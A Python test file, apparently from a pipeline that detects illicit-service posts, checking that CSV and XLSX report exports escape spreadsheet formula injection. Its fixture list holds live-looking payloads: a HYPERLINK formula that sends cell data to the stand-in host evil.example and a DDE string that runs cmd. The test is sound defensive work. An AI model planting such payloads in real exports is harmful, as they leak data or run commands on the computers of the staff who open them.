"""Report exports never carry a live formula (security review, finding 4): account names and URLs come
from scraped posts, and `=HYPERLINK(...)` in batch.csv or batch.xlsx would run on a staff computer."""
from __future__ import annotations

import csv
import zipfile

from openpyxl import load_workbook

from assistant.core.settings import get_settings
from assistant.store.migrate import upgrade
from detection.pipeline import reports
from detection.pipeline.scan import scan
from detection.storage import queries as store
from tests.detection.test_detection_pipeline import FakeClassifier, approve_all, write_jsonl, write_sources

HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"클릭")', "+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(1+1)",
           "\t=1+1", "\r=1+1"]
BROKEN = "seller\x00\x1b"  # control characters XLSX cannot hold: the export must not fail on them
TEXT = "조건만남 애인모드 15만 후불 카톡: deal{} 010-1234-567{}"


async def test_scraped_accounts_and_urls_are_text_in_csv_and_xlsx(env, tmp_path):
    posts = [{"id": f"f{i}", "platform": "x", "url": value, "account": value, "text": TEXT.format(i, i),
              "posted_at": "2026-11-20T10:00:00Z"} for i, value in enumerate(HOSTILE)]
    n = len(HOSTILE)
    posts.append({"id": f"f{n}", "platform": "x", "url": "https://x.example/p", "account": BROKEN,
                  "text": TEXT.format(n, n), "posted_at": "2026-11-20T10:00:00Z"})
    write_jsonl(tmp_path / "batch.jsonl", posts)
    src = write_sources(tmp_path, {"batch": {"kind": "import", "path": "batch.jsonl", "batch": 10}})
    env(DASI_DETECT_SOURCES=str(src), DASI_DETECT_FEEDBACK=str(tmp_path / "feedback.jsonl"))
    settings = get_settings()
    upgrade()
    await scan(settings, "batch", classifier=FakeClassifier())
    await approve_all(settings)
    with store.session(settings) as s, s.begin():
        batch = reports.draft_batch(s, settings)

    with batch.csv_path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    quoted = ["'" + v for v in HOSTILE]
    assert sorted(r["계정"] for r in rows) == sorted([*quoted, "seller\ufffd\ufffd"])  # as typed, never run
    assert sorted(r["URL"] for r in rows) == sorted([*quoted, "https://x.example/p"])

    ws = load_workbook(batch.xlsx_path).active
    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
    assert cells and all(c.data_type == "s" for c in cells if c.value is not None)
    accounts = sorted(str(ws.cell(r, 7).value) for r in range(2, ws.max_row + 1))
    assert accounts == sorted([*(v.replace("\r", "\n") for v in quoted), "seller\ufffd\ufffd"])  # XML: CR is LF
    with zipfile.ZipFile(batch.xlsx_path) as z:  # no formula element anywhere in the sheet
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()
